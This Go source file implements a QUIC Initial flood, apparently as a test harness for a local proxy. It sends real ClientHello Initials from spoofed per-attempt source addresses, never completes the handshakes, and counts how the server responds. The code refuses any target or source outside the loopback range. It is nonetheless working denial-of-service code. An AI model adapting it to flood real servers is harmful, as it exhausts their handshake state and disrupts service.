package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"golang.org/x/net/ipv4"
)

// QUICFloodOptions configures QUICFlood.
type QUICFloodOptions struct {
	// Target.Addr is the proxy's UDP host:port, a loopback address;
	// Target.Host the TLS server name of the ClientHello (default
	// "localhost"); Target.Timeout how long to wait for answers after the
	// last Initial (default 10s: longer than a server's usual handshake
	// idle timeout of 5s, so retransmissions are seen too).
	Target
	// Count is the number of connection attempts, each an Initial packet
	// with a connection ID of its own from a source address of its own.
	// Default 1000; at most 1<<20, and at most the addresses in Sources.
	Count int
	// Rate is how many Initials are sent per second, on average. Default
	// 5000; at most 200000.
	Rate int
	// Sources are the source addresses, used in order from the first
	// after the prefix's own address: one per attempt. Default
	// 127.1.0.0/16 (65,535 addresses). It must lie in 127.0.0.0/8, where
	// every address is local: no address is ever spoofed beyond loopback.
	Sources netip.Prefix
}

// QUICFloodResult is what QUICFlood saw. Each attempt is counted once, by
// the first answer it got.
type QUICFloodResult struct {
	// Sent is the number of Initials sent; Addresses the number of
	// distinct source addresses they came from.
	Sent, Addresses int
	// Retry: answered with a Retry packet (the server kept no state).
	Retry int
	// Handshake: answered with the server's Initial or Handshake packets
	// (ServerHello and the rest of its flight): the server created a
	// connection and holds its handshake state until it times out.
	Handshake int
	// Refused: answered with CONNECTION_CLOSE carrying
	// CONNECTION_REFUSED, sent without keeping state.
	Refused int
	// Other: answered with something else (a Version Negotiation, a
	// close with another error, a packet that did not decrypt).
	Other int
	// Silent: no answer within Timeout.
	Silent int
	// Datagrams is the number of datagrams received in all
	// (retransmissions included).
	Datagrams int
	// Elapsed is the time from the first Initial to the last; Waited the
	// time spent listening after it.
	Elapsed, Waited time.Duration
}

func (r *QUICFloodResult) String() string {
	return fmt.Sprintf("quicflood: %d Initials from %d addresses in %v (%.0f/s): retry %d, handshake %d, refused %d, other %d, silent %d; %d datagrams back within %v",
		r.Sent, r.Addresses, r.Elapsed.Round(time.Millisecond), float64(r.Sent)/max(r.Elapsed.Seconds(), 1e-3),
		r.Retry, r.Handshake, r.Refused, r.Other, r.Silent, r.Datagrams, r.Waited)
}

// Answer classes of an attempt, in QUICFloodResult.
const (
	floodSilent uint8 = iota
	floodRetry
	floodHandshake
	floodRefused
	floodOther
)

// QUICFlood sends o.Count genuine QUIC v1 Initial packets to o.Target.Addr,
// each opening a new connection: a real ClientHello (quic-go's, offering
// h3), a connection ID of its own and a source address of its own, at
// o.Rate per second. It never answers the server: every attempt the
// server admits stays a handshake in progress until the server gives up
// on it. It then listens for o.Target.Timeout and classifies what came
// back for each attempt.
//
// How: quic-go's client writes its first datagram to a net.PacketConn of
// QUICFlood's own, which keeps it and sends nothing. QUICFlood removes its
// Initial protection (RFC 9001, section 5.2) and, for each attempt,
// protects it again under a new Destination Connection ID (the keys
// derive from it), with a fresh ClientHello random. The ClientHello
// offers only X25519, so that it fits in one Initial. All attempts are
// sent from one UDP socket bound to 0.0.0.0 on an ephemeral port, each
// with its own source address chosen by IP_PKTINFO; the answers to all
// those addresses reach that socket, which tells them apart by their
// destination address. So 30,000 source addresses take one file
// descriptor, not 30,000.
func QUICFlood(ctx context.Context, o QUICFloodOptions) (*QUICFloodResult, error) {
	if o.Host == "" {
		o.Host = "localhost"
	}
	t, err := o.Target.withDefaults()
	if err != nil {
		return nil, err
	}
	dst, err := netip.ParseAddrPort(t.Addr)
	if err != nil {
		return nil, fmt.Errorf("attack: QUIC flood target %q: want an IP address and port: %v", t.Addr, err)
	}
	if !dst.Addr().Unmap().IsLoopback() || !dst.Addr().Unmap().Is4() {
		return nil, fmt.Errorf("attack: QUIC flood target %s: want an IPv4 loopback address (127.0.0.0/8): the flood spoofs source addresses, which only loopback makes harmless", dst)
	}
	src := o.Sources
	if !src.IsValid() {
		src = netip.MustParsePrefix("127.1.0.0/16")
	}
	src = src.Masked()
	if !src.Addr().Is4() || src.Bits() < 8 || !netip.MustParsePrefix("127.0.0.0/8").Contains(src.Addr()) {
		return nil, fmt.Errorf("attack: QUIC flood sources %s: want a prefix inside 127.0.0.0/8", o.Sources)
	}
	addresses := 1<<(32-src.Bits()) - 1
	count := bound(o.Count, 1000, 1<<20)
	if count > addresses {
		return nil, fmt.Errorf("attack: QUIC flood of %d attempts: the sources %s hold %d addresses; give a wider prefix or a smaller count", count, src, addresses)
	}
	rate := bound(o.Rate, 5000, 200000)

	tmpl, err := captureInitial(ctx, dst, t.Host)
	if err != nil {
		return nil, err
	}
	udp, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4zero})
	if err != nil {
		return nil, err
	}
	defer udp.Close()
	pc := ipv4.NewPacketConn(udp)
	if err := pc.SetControlMessage(ipv4.FlagDst, true); err != nil {
		return nil, fmt.Errorf("attack: IP_PKTINFO: %v", err)
	}
	first := src.Addr().Next()
	index := func(a netip.Addr) (int, bool) {
		if !src.Contains(a) {
			return 0, false
		}
		i := int(binary.BigEndian.Uint32(a.AsSlice()) - binary.BigEndian.Uint32(first.AsSlice()))
		return i, i >= 0 && i < count
	}
	addrOf := func(i int) net.IP {
		return binary.BigEndian.AppendUint32(nil, binary.BigEndian.Uint32(first.AsSlice())+uint32(i))
	}

	res := &QUICFloodResult{}
	class := make([]uint8, count)
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() { res.Datagrams = readFloodAnswers(pc, tmpl, class, index, stop) })

	to := net.UDPAddrFromAddrPort(dst)
	start := time.Now()
	var sendErr error
	pkt := make([]byte, 0, 1500)
	for i := range count {
		if err := ctx.Err(); err != nil {
			sendErr = err
			break
		}
		if d := time.Until(start.Add(time.Duration(i) * time.Second / time.Duration(rate))); d > 0 {
			time.Sleep(d)
		}
		pkt, err = tmpl.packet(pkt[:0], i)
		if err == nil {
			_, err = pc.WriteTo(pkt, &ipv4.ControlMessage{Src: addrOf(i)}, to)
		}
		if err != nil {
			sendErr = fmt.Errorf("attack: send Initial %d from %s: %w", i, net.IP(addrOf(i)), err)
			break
		}
		res.Sent++
	}
	res.Elapsed = time.Since(start)
	wait := time.Now()
	select {
	case <-ctx.Done():
	case <-time.After(t.Timeout):
	}
	res.Waited = time.Since(wait).Round(time.Millisecond)
	close(stop)
	udp.SetReadDeadline(time.Now())
	wg.Wait()
	for _, c := range class[:res.Sent] {
		switch c {
		case floodSilent:
			res.Silent++
		case floodRetry:
			res.Retry++
		case floodHandshake:
			res.Handshake++
		case floodRefused:
			res.Refused++
		default:
			res.Other++
		}
	}
	res.Addresses = res.Sent
	return res, sendErr
}

// readFloodAnswers reads datagrams until stop is closed, recording for
// each attempt (found by the destination address) the class of its first
// answer. It returns the number of datagrams read.
func readFloodAnswers(pc *ipv4.PacketConn, tmpl *initialTemplate, class []uint8, index func(netip.Addr) (int, bool), stop <-chan struct{}) int {
	buf := make([]byte, 65536)
	n := 0
	for {
		k, cm, _, err := pc.ReadFrom(buf)
		if err != nil {
			select {
			case <-stop:
				return n
			default:
			}
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				continue
			}
			return n
		}
		n++
		if cm == nil {
			continue
		}
		a, ok := netip.AddrFromSlice(cm.Dst)
		if !ok {
			continue
		}
		i, ok := index(a.Unmap())
		if !ok || class[i] != floodSilent {
			continue
		}
		class[i] = classifyAnswer(buf[:k], tmpl.dcid(i))
	}
}

// classifyAnswer names the first packet of a datagram the server sent to
// the attempt whose Destination Connection ID was dcid.
func classifyAnswer(b, dcid []byte) uint8 {
	if len(b) < 7 || b[0]&0x80 == 0 {
		return floodOther // short header: a stateless reset, or garbage
	}
	if binary.BigEndian.Uint32(b[1:5]) != quicV1 {
		return floodOther // Version Negotiation
	}
	switch (b[0] >> 4) & 3 {
	case 3:
		return floodRetry
	case 2:
		return floodHandshake
	case 0:
	default:
		return floodOther
	}
	payload, err := openInitial(b, dcid)
	if err != nil {
		return floodOther
	}
	// Frames (RFC 9000, section 19): the first that says anything decides.
	for r := payload; len(r) > 0; {
		typ, rest, ok := varint(r)
		if !ok {
			return floodOther
		}
		r = rest
		switch typ {
		case 0x00, 0x01: // PADDING, PING
		case 0x02, 0x03: // ACK: skip it
			var v [4]uint64
			for j := range v {
				if v[j], r, ok = varint(r); !ok {
					return floodOther
				}
			}
			for range 2 * v[2] {
				if _, r, ok = varint(r); !ok {
					return floodOther
				}
			}
			if typ == 0x03 {
				for range 3 {
					if _, r, ok = varint(r); !ok {
						return floodOther
					}
				}
			}
		case 0x06: // CRYPTO: the server's flight
			return floodHandshake
		case 0x1c: // CONNECTION_CLOSE
			if code, _, ok := varint(r); ok && code == 0x02 {
				return floodRefused
			}
			return floodOther
		default:
			return floodOther
		}
	}
	return floodOther
}

// quicV1 is QUIC version 1 (RFC 9000).
const quicV1 = 0x00000001

// initialTemplate is a client's first Initial packet, unprotected, from
// which QUICFlood makes one packet per attempt.
type initialTemplate struct {
	scid []byte
	// hello is the ClientHello (the whole TLS message).
	hello []byte
	// size is the length of the datagram quic-go sent (padded to at
	// least 1200 bytes, RFC 9000, section 14.1).
	size int
	// ids makes each attempt's Destination Connection ID: AES of its
	// index under a random key, 16 bytes, so that IDs are distinct and
	// look random (a server may hash them to pick a shard).
	ids cipher.Block
}

// dcid is the Destination Connection ID of attempt i.
func (t *initialTemplate) dcid(i int) []byte {
	var b [16]byte
	binary.BigEndian.PutUint64(b[8:], uint64(i))
	t.ids.Encrypt(b[:], b[:])
	return b[:]
}

// packet appends attempt i's protected Initial to b: one CRYPTO frame
// with the ClientHello (a fresh random), PADDING up to the size of
// quic-go's datagram, packet number 0.
func (t *initialTemplate) packet(b []byte, i int) ([]byte, error) {
	dcid := t.dcid(i)
	hello := make([]byte, len(t.hello))
	copy(hello, t.hello)
	rand.Read(hello[6:38]) // ClientHello.random (RFC 8446, section 4.1.2)
	frames := append([]byte{0x06, 0x00}, appendVarint(nil, uint64(len(hello)))...)
	frames = append(frames, hello...)
	const pnLen = 1
	b = append(b, 0xc0|(pnLen-1))
	b = binary.BigEndian.AppendUint32(b, quicV1)
	b = append(b, byte(len(dcid)))
	b = append(b, dcid...)
	b = append(b, byte(len(t.scid)))
	b = append(b, t.scid...)
	b = append(b, 0) // no token
	// Length (2-byte varint) + packet number + frames + AEAD tag fill
	// the datagram.
	payloadLen := t.size - len(b) - 2 - pnLen - 16
	if payloadLen < len(frames) {
		return nil, fmt.Errorf("attack: ClientHello of %d bytes does not fit in an Initial of %d", len(hello), t.size)
	}
	frames = append(frames, make([]byte, payloadLen-len(frames))...) // PADDING
	b = binary.BigEndian.AppendUint16(b, 0x4000|uint16(pnLen+len(frames)+16))
	pnOff := len(b)
	b = append(b, 0) // packet number 0
	k, err := newInitialKeys(dcid, "client in")
	if err != nil {
		return nil, err
	}
	b = k.aead.Seal(b, k.nonce(0), frames, b)
	k.protectHeader(b, pnOff, pnLen)
	return b, nil
}

// captureInitial has quic-go's client write its first datagram for a
// connection to dst with server name sni, keeps it without sending it,
// and returns it unprotected.
func captureInitial(ctx context.Context, dst netip.AddrPort, sni string) (*initialTemplate, error) {
	cc := &captureConn{got: make(chan []byte, 1), closed: make(chan struct{})}
	tr := &quic.Transport{Conn: cc}
	defer tr.Close()
	defer cc.Close() // first: Transport.Close waits for its read to return
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	tlsConf := &tls.Config{
		ServerName:         sni,
		NextProtos:         []string{"h3"},
		InsecureSkipVerify: true,
		// One key share: the ClientHello fits in one Initial.
		CurvePreferences: []tls.CurveID{tls.X25519},
	}
	errc := make(chan error, 1)
	go func() {
		_, err := tr.Dial(ctx, net.UDPAddrFromAddrPort(dst), tlsConf, &quic.Config{})
		errc <- err
	}()
	var d []byte
	select {
	case d = <-cc.got:
	case err := <-errc:
		return nil, fmt.Errorf("attack: quic-go's client wrote no Initial: %v", err)
	case <-ctx.Done():
		return nil, fmt.Errorf("attack: quic-go's client wrote no Initial: %v", ctx.Err())
	}
	cancel()
	<-errc
	return parseInitial(d)
}

// parseInitial unprotects the client Initial at the start of datagram d
// and checks that it carries a whole ClientHello.
func parseInitial(d []byte) (*initialTemplate, error) {
	bad := func(why string) (*initialTemplate, error) {
		return nil, fmt.Errorf("attack: quic-go's first datagram (%d bytes): %s", len(d), why)
	}
	if len(d) < 7 || d[0]&0xf0 != 0xc0 || binary.BigEndian.Uint32(d[1:5]) != quicV1 {
		return bad("not a QUIC v1 Initial packet")
	}
	h, err := parseLongHeader(d)
	if err != nil {
		return bad(err.Error())
	}
	k, err := newInitialKeys(h.dcid, "client in")
	if err != nil {
		return nil, err
	}
	payload, err := k.open(d, h)
	if err != nil {
		return bad(err.Error())
	}
	// Reassemble the CRYPTO data: quic-go, like browsers, may send the
	// ClientHello in several frames, out of order.
	var crypto []byte
	have := 0
	for r := payload; len(r) > 0; {
		typ, rest, ok := varint(r)
		if !ok {
			return bad("truncated frame")
		}
		r = rest
		switch typ {
		case 0x00, 0x01:
		case 0x06:
			var off, n uint64
			if off, r, ok = varint(r); !ok {
				return bad("truncated CRYPTO frame")
			}
			if n, r, ok = varint(r); !ok || uint64(len(r)) < n || off+n > 1<<16 {
				return bad("truncated CRYPTO frame")
			}
			if end := int(off + n); end > len(crypto) {
				crypto = append(crypto, make([]byte, end-len(crypto))...)
			}
			copy(crypto[off:], r[:n])
			have += int(n)
			r = r[n:]
		default:
			return bad(fmt.Sprintf("unexpected frame type %#x", typ))
		}
	}
	if have != len(crypto) {
		return bad("CRYPTO frames with gaps or overlaps")
	}
	if len(crypto) < 38 || crypto[0] != 0x01 {
		return bad("no ClientHello")
	}
	if n := int(crypto[1])<<16 | int(crypto[2])<<8 | int(crypto[3]); n+4 != len(crypto) {
		return bad(fmt.Sprintf("ClientHello of %d bytes, %d in this packet: it must fit in one", n+4, len(crypto)))
	}
	var key [16]byte
	rand.Read(key[:])
	ids, _ := aes.NewCipher(key[:])
	return &initialTemplate{scid: h.scid, hello: crypto, size: max(len(d), 1200), ids: ids}, nil
}

// captureConn is the net.PacketConn quic-go's client writes its first
// datagram to: it keeps that datagram, sends nothing, and reads nothing
// until closed.
type captureConn struct {
	once   sync.Once
	got    chan []byte
	close  sync.Once
	closed chan struct{}
}

func (c *captureConn) WriteTo(b []byte, _ net.Addr) (int, error) {
	c.once.Do(func() { c.got <- append([]byte(nil), b...) })
	return len(b), nil
}

func (c *captureConn) ReadFrom([]byte) (int, net.Addr, error) {
	<-c.closed
	return 0, nil, net.ErrClosed
}

func (c *captureConn) Close() error {
	c.close.Do(func() { close(c.closed) })
	return nil
}

func (c *captureConn) LocalAddr() net.Addr {
	return &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 1}
}
func (c *captureConn) SetReadBuffer(int) error          { return nil }
func (c *captureConn) SetWriteBuffer(int) error         { return nil }
func (c *captureConn) SetDeadline(time.Time) error      { return nil }
func (c *captureConn) SetReadDeadline(time.Time) error  { return nil }
func (c *captureConn) SetWriteDeadline(time.Time) error { return nil }
